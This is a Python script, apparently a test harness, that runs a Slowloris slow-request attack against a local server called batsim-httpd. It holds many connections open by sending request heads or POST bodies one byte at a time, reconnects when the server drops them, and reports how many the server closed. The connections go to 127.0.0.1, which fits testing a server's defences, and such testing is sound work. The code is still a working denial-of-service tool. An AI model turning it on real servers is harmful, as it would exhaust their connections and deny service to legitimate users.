#!/usr/bin/env python3
"""Slowloris against batsim-httpd: a bounded number of connections from
several loopback addresses, each sending its request head (or, for some,
the body of a POST) one byte every --interval-s seconds, so that no
request is ever complete, until SIGTERM or --duration-s.  With
--reconnect, a connection the server closes is opened again.

Prints "ready N" once the first N connections are open and have sent a
byte, then at the end one line
  "summary opened O closed_by_server C first_wave_closed F of N"
where F counts the first N connections that the server closed.

Usage: slow-clients.py --port P --addrs 127.0.0.2,127.0.0.3 --per-addr 2
       [--bodies K] [--interval-s 0.5] [--duration-s 120] [--reconnect]
"""
import argparse
import select
import signal
import socket
import sys
import time

HEAD = b"GET /summary HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
BODY_HEAD = (b"POST /control/ambient HTTP/1.1\r\nHost: 127.0.0.1\r\n"
             b"Content-Type: application/json\r\nContent-Length: 4096\r\n\r\n")

stop = False


def on_term(sig, frame):
    global stop
    stop = True


class Slow:
    def __init__(self, addr, port, body, first):
        self.first = first
        self.body = body
        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.s.bind((addr, 0))
        self.s.connect(("127.0.0.1", port))
        # a POST sends its whole head at once, then its body slowly
        self.s.sendall(BODY_HEAD if body else HEAD[:1])
        self.sent = len(BODY_HEAD) if body else 1
        self.s.setblocking(False)
        self.closed = False

    def drip(self):
        if self.body:
            data = b"{"
        else:
            data = HEAD[self.sent:self.sent + 1] if self.sent < len(HEAD) else b"x"
        try:
            self.s.send(data)
            self.sent += 1
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            self.close()

    def close(self):
        if not self.closed:
            self.closed = True
            self.s.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--addrs", required=True)
    ap.add_argument("--per-addr", type=int, default=2)
    ap.add_argument("--bodies", type=int, default=0,
                    help="how many of the connections send a slow body")
    ap.add_argument("--interval-s", type=float, default=0.5)
    ap.add_argument("--duration-s", type=float, default=120)
    ap.add_argument("--reconnect", action="store_true",
                    help="open a connection again when the server closes it")
    a = ap.parse_args()
    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)

    slots = [(addr, i) for addr in a.addrs.split(",") for i in range(a.per_addr)]
    n = len(slots)
    conns = {}
    for k, (addr, _) in enumerate(slots):
        conns[k] = Slow(addr, a.port, k < a.bodies, True)
    print(f"ready {n}", flush=True)
    opened, closed_by_server, first_closed = n, 0, 0
    end = time.monotonic() + a.duration_s
    while not stop and time.monotonic() < end:
        live = [c for c in conns.values() if not c.closed]
        if not live:
            time.sleep(a.interval_s)
            continue
        r, _, _ = select.select([c.s for c in live], [], [], a.interval_s)
        for c in live:
            if c.s in r:
                try:
                    data = c.s.recv(4096)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                if not data:  # the server closed it
                    closed_by_server += 1
                    first_closed += c.first
                    c.close()
                # an answer (e.g. a 4xx) is not what a slow client waits
                # for: keep dripping until the server closes
        for k, c in list(conns.items()):
            if c.closed:
                if stop or not a.reconnect:
                    continue
                try:  # the attack continues: open it again
                    conns[k] = Slow(slots[k][0], a.port, k < a.bodies, False)
                    opened += 1
                except OSError:
                    pass
            else:
                c.drip()
    for c in conns.values():
        c.close()
    print(f"summary opened {opened} closed_by_server {closed_by_server} "
          f"first_wave_closed {first_closed} of {n}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
